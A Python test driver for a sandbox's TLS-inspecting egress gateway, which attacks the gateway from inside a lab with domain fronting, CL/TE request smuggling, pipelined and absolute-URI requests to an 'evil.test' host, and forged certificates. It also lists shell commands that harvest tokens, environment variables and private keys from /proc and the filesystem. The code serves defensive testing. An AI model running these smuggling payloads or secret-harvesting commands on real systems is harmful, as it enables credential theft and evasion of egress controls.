"""The host side of the TLS inspection tests (``test_tls_inspect.py``): run by
``NetLab.run_host(..., driver="_tlsdriver.py")`` inside the lab's host namespace, as
``_netdriver.py`` is. Makes sandboxes whose policy inspects TLS and injects secrets, attacks
them from inside, reads on the host what the far end received (the lab's ``seen.jsonl``),
what the gateway logged and what the sandbox's processes hold in memory, and prints one
JSON line. ``python _tlsdriver.py LABDIR SCENARIO``."""

from __future__ import annotations

import json
import os
import secrets
import shlex
import sys
import tempfile
import time
from pathlib import Path

from _netdriver import CA, UPGRADE, get, prepare

from rockroll.sandbox import EgressPolicy, SandboxSpec, SecretRef, SpecError, open_sandbox

# Runs inside the sandbox: one TLS connection, steps sent in turn, what came back.
# ``python3 tlsprobe.py HOST SNI STEPS CAFILE|- ALPN|- TIMEOUT``; STEPS: [[text, read until], ...]
# No CAFILE: the trust the sandbox was given (its system bundle, $SSL_CERT_FILE).
TLSPROBE = r'''
import json, socket, ssl, sys
def out(x): print(json.dumps(x)); sys.exit(0)
host, sni, steps, cafile, alpn, timeout = sys.argv[1:7]
try:
    ctx = ssl.create_default_context(cafile=None if cafile == "-" else cafile)
    if alpn != "-": ctx.set_alpn_protocols(alpn.split(","))
    s = ctx.wrap_socket(socket.create_connection((host, 443), timeout=float(timeout)), server_hostname=sni)
    got = b""
    try:
        for text, until in json.loads(steps):
            s.sendall(text.encode("latin-1"))
            while until and until.encode() not in got and (chunk := s.recv(65536)): got += chunk
        while chunk := s.recv(65536): got += chunk
    except (OSError, ssl.SSLError) as e:
        got += f"|{type(e).__name__}".encode()
    out({"alpn": s.selected_alpn_protocol(), "got": got.decode("latin-1")})
except Exception as e:
    out({"error": f"{type(e).__name__}: {e}"})
'''
INSPECTED_HOSTS = ("allowed.test", "api.test", "wrongname.test", "rogue.test")


def req(host: str, target: str = "/", extra: str = "", close: bool = True) -> str:
    return get(host, target, extra=extra + ("Connection: close\r\n" if close else ""))


# (name, SNI, steps, cafile or "-", ALPN or "-", timeout): connections to the shared
# address's HTTPS (allowed.test, api.test and evil.test on one address and one certificate)
# or to a forged one, each from inside a sandbox that inspects TLS; api.test gets secrets.
CASES = [
    ("allowed", "allowed.test", [[req("allowed.test"), None]], "-", "-", 8),
    ("h2_offered", "allowed.test", [[req("allowed.test"), None]], "-", "h2,http/1.1", 8),
    ("h2_only", "allowed.test", [["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", None]], "-", "h2", 8),
    ("api", "api.test", [[req("api.test", extra="Authorization: Bearer mine\r\nx-api-key: mine\r\n"), None]],
     "-", "-", 8),
    # SNI allowed.test, Host another name on the address: domain fronting
    ("fronting_evil", "allowed.test", [[req("evil.test", "/headers"), None]], "-", "-", 8),
    ("fronting_api", "allowed.test", [[req("api.test"), None]], "-", "-", 8),
    # the secret's connection, then a request for the attacker's site on it
    ("keepalive_evil", "api.test", [[req("api.test", close=False), ":api"], [req("evil.test", "/headers"), None]],
     "-", "-", 8),
    ("pipelined_evil", "api.test", [[req("api.test", close=False) + req("evil.test", "/headers"), None]], "-", "-", 8),
    ("absolute_evil", "api.test", [["GET https://evil.test/headers HTTP/1.1\r\nHost: api.test\r\n\r\n", None]],
     "-", "-", 8),
    ("smuggle_cl_te", "api.test", [["POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 60\r\n"
                                    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + req("evil.test", "/headers"),
                                    None]], "-", "-", 8),
    # a body that reads as a request: a body it stays, to api.test, as the server reads it too
    ("body_is_a_request", "api.test", [["POST / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nContent-Length: "
                                        f"{len(req('evil.test', '/headers'))}\r\n\r\n" + req("evil.test", "/headers"),
                                        None]], "-", "-", 8),
    # after a 101 the bytes are another protocol (an echo): a request in them gets no secret,
    # and one for another host is refused
    ("upgrade_then_api", "api.test", [[get("api.test", "/echo", extra=UPGRADE), "\r\n\r\n"],
                                      [get("api.test", "/headers"), "Host: api.test"]], "-", "-", 3),
    ("upgrade_then_evil", "api.test", [[get("api.test", "/echo", extra=UPGRADE), "\r\n\r\n"],
                                       [req("evil.test", "/headers"), None]], "-", "-", 8),
    # the policy's rule for allowed.test (GET and HEAD only) holds inside inspected TLS
    ("rule_method", "allowed.test", [["POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n"
                                      "Connection: close\r\n\r\n", None]], "-", "-", 8),
    # forged upstreams: a certificate of the lab's CA for other names, one of a CA nobody trusts
    ("wrong_name", "wrongname.test", [[req("wrongname.test"), None]], "-", "-", 8),
    ("rogue_ca", "rogue.test", [[req("rogue.test"), None]], "-", "-", 8),
    # a client that trusts the real CA only (it pins its server's): the sandbox's CA fails it
    ("pinned", "allowed.test", [[req("allowed.test"), None]], CA, "-", 8),
]
# Shell commands inside the sandbox, each what an agent looking for the secret would run;
# their output goes to the host, which looks for the secret in it. The agent knows the
# secrets' shape (tok-/key- and 32 hex digits), not their value.
SHAPE = r"(tok|key)-[0-9a-f]{32}"
EXTRACT = {
    "environ": "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u",
    "cmdline": "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '",
    "filesystem": f"grep -rhoaE '{SHAPE}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
                  "--exclude-dir=usr 2>/dev/null | sort -u",
    "private_keys": "grep -rlaF 'PRIVATE KEY' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
                    "--exclude-dir=usr 2>/dev/null | xargs -r cat",
    "bundle": "cat /etc/ssl/certs/ca-certificates.crt",
    "trust_env": "printenv SSL_CERT_FILE REQUESTS_CA_BUNDLE PIP_CERT NODE_EXTRA_CA_CERTS CURL_CA_BUNDLE",
    "curl": "curl -sS https://allowed.test/",
    # the system bundle alone, no variable pointing at it
    "curl_system": "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE -u REQUESTS_CA_BUNDLE curl -sS https://allowed.test/",
    "python": "python3 -c \"import urllib.request; "
              "print(urllib.request.urlopen('https://api.test/').read().decode())\"",
    "python_system": "env -i /usr/bin/python3 -c \"import urllib.request; "
                     "print(urllib.request.urlopen('https://allowed.test/').read().decode())\"",
    # Node reads NODE_EXTRA_CA_CERTS; pip PIP_CERT (no pip.conf of the host's: its own index)
    "node": "node -e \"require('https').get('https://allowed.test/', r => r.on('data', d => process.stdout.write(d)))"
            ".on('error', e => console.log('error', e.code))\" 2>&1",
    # TLS the gateway cannot terminate: a ClientHello inside a CONNECT tunnel (refused: tls_tunnel;
    # to api.test: allowed.test's rule takes GET and HEAD only)
    "tunnel_tls": "python3 -c \"import socket, ssl\n"
                  "s = socket.create_connection(('api.test', 80), timeout=8)\n"
                  "s.sendall(b'CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n\\r\\n')\n"
                  "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
                  "try: ssl.create_default_context().wrap_socket(s, server_hostname='api.test'); print('handshake')\n"
                  "except (OSError, ssl.SSLError) as e: print('refused', type(e).__name__)\"",
    # a client silent past the sniff window, then a ClientHello: inspected as any other
    "late_hello": "python3 -c \"import socket, ssl, time\n"
                  "s = socket.create_connection(('allowed.test', 443), timeout=10)\n"
                  "time.sleep(3.5)\n"
                  "t = ssl.create_default_context().wrap_socket(s, server_hostname='allowed.test')\n"
                  "t.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n')\n"
                  "got = b''\n"
                  "while data := t.recv(4096): got += data\n"
                  "print(got.split(b'\\r\\n\\r\\n', 1)[1].decode())\"",
    "pip": "PIP_CONFIG_FILE=/dev/null python3 -m pip download --no-deps --retries 0 --timeout 10 -d /tmp/pip "
           "--index-url https://allowed.test/simple/ nothing-here 2>&1",
}


def _memory_hits(pids: list[int], needles: dict[str, bytes]) -> dict[str, int]:
    """How many of ``pids``' readable memory regions hold each needle (read on the host)."""
    hits = dict.fromkeys(needles, 0)
    for pid in pids:
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        with mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms or line.endswith(("[vvar]", "[vsyscall]")):
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                for name, needle in needles.items():
                    hits[name] += needle in data
    return hits


def _sandbox_pids(sb) -> list[int]:
    """The processes of ``sb``'s guest: those in its init's pid namespace, as the host sees them."""
    init = sb.aio._deploy.guest.init_pid
    ns = os.readlink(f"/proc/{init}/ns/pid")
    pids = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/ns/pid") == ns:
                pids.append(int(pid))
        except OSError:
            pass
    return pids


def _seen(lab: Path) -> list[dict]:
    path = lab / "seen.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def inspect(lab: Path) -> dict:
    """A sandbox that inspects TLS and injects api.test's secrets, attacked from inside
    (``CASES``, ``EXTRACT``); then one that does not, fronted; then a secret that is not there."""
    from cryptography.hazmat.primitives import serialization

    token, key = f"tok-{secrets.token_hex(16)}", f"key-{secrets.token_hex(16)}"
    decoy = f"tok-{secrets.token_hex(16)}"  # put in the sandbox: the looks must find it (control)
    os.environ["RR_LAB_TOKEN"] = token
    key_file = Path(tempfile.mkdtemp()) / "api-key.txt"  # the host's, outside the lab (nobody may not write there)
    key_file.write_text(key + "\n")
    key_file.chmod(0o600)
    policy = EgressPolicy(hosts=INSPECTED_HOSTS, ports=(80, 443), inspect_tls=True, upstream_ca=str(lab / "ca.pem"),
                          rules={"allowed.test": {"methods": ["GET", "HEAD"]}},
                          inject={"api.test": {"Authorization": SecretRef("env:RR_LAB_TOKEN", prefix="Bearer "),
                                               "X-Api-Key": SecretRef(f"file:{key_file}")}})
    r: dict = {"secrets": [token, key], "decoy": decoy, "cases": {}, "extract": {}}
    # 2 GiB: in the lab (ip netns exec: no cgroup mounts) memory is RLIMIT_AS, and Node reserves
    # more address space than 512 MiB
    with open_sandbox(SandboxSpec(network=True, egress=policy, memory_mb=2048, timeout_s=120)) as sb:
        prepare(sb, lab)
        sb.write_file("/workspace/tlsprobe.py", TLSPROBE)
        for name, sni, steps, cafile, alpn, timeout in CASES:
            before, seen_before = sb.network_stats()["denied"], len(_seen(lab))
            res = sb.run("python3 /workspace/tlsprobe.py " + " ".join(shlex.quote(a) for a in (
                sni, sni, json.dumps(steps), cafile, alpn, str(timeout))), timeout=60)
            try:
                got = json.loads(res.stdout.strip().splitlines()[-1])
            except (IndexError, ValueError):
                got = {"error": f"probe failed: {res.stdout} {res.stderr}"}
            time.sleep(0.1)  # the gateway counts and logs as it closes
            after = sb.network_stats()["denied"]
            got["counted"] = {k: n - before.get(k, 0) for k, n in after.items() if n != before.get(k, 0)}
            got["upstream"] = _seen(lab)[seen_before:]  # what reached the far end, as it received it
            r["cases"][name] = got
        sb.write_file("/workspace/decoy.txt", decoy + "\n")
        sb.run(f"python3 -c 'import time; held = \"{decoy}\".encode(); time.sleep(120)' > /dev/null 2>&1 &")
        for name, cmd in EXTRACT.items():
            res = sb.run(cmd, timeout=120)
            r["extract"][name] = res.stdout
        authority = sb.aio._deploy.network.authority
        ca_key = authority._key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                              serialization.NoEncryption())
        ca_pem = authority._key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                              serialization.NoEncryption()).decode()
        r["ca_key_line"] = ca_pem.splitlines()[1]  # a line of its base64, as a file would hold it
        scalar = authority._key.private_numbers().private_value.to_bytes(32, "big")
        # as root only: without root the sandbox's processes are not dumpable, hence not
        # readable by their owner either (which is the point)
        r["euid"] = os.geteuid()
        r["memory"] = _memory_hits(_sandbox_pids(sb), {
            "token": token.encode(), "key": key.encode(), "decoy": decoy.encode(), "ca_key": ca_key,
            "ca_scalar": scalar}) if r["euid"] == 0 else None
        r["ca_pem_inside"] = sb.read_file("/etc/ssl/certs/ca-certificates.crt").decode().count(
            authority.cert_pem.decode().strip())
        r["log"] = sb.egress_log()
        r["stats"] = sb.network_stats()
    # the same fronting without inspection: the hole SNI filtering leaves
    plain = EgressPolicy(hosts=("allowed.test",), ports=(443,))
    with open_sandbox(SandboxSpec(network=True, egress=plain, memory_mb=256, timeout_s=60)) as sb:
        prepare(sb, lab)
        sb.write_file("/workspace/tlsprobe.py", TLSPROBE)
        res = sb.run("python3 /workspace/tlsprobe.py allowed.test allowed.test " + shlex.quote(json.dumps(
            [[req("evil.test", "/headers"), None]])) + f" {CA} - 8", timeout=60)
        r["uninspected_fronting"] = json.loads(res.stdout.strip().splitlines()[-1])
        r["uninspected_env"] = sb.run("printenv SSL_CERT_FILE").stdout
    # a secret that is not on the host: the start fails, naming the header
    missing = EgressPolicy(hosts=("api.test",), inspect_tls=True,
                           inject={"api.test": {"Authorization": SecretRef("env:RR_LAB_NOT_SET")}})
    try:
        with open_sandbox(SandboxSpec(network=True, egress=missing, memory_mb=256, timeout_s=60)):
            r["missing_secret"] = None
    except SpecError as e:
        r["missing_secret"] = [type(e).__name__, e.field, str(e)]
    r["links_left"] = [name for name in os.listdir("/sys/class/net") if name.startswith("rrh")]
    return r


if __name__ == "__main__":
    lab, scenario = Path(sys.argv[1]), sys.argv[2]
    print(json.dumps({"inspect": inspect}[scenario](lab, *sys.argv[3:])))
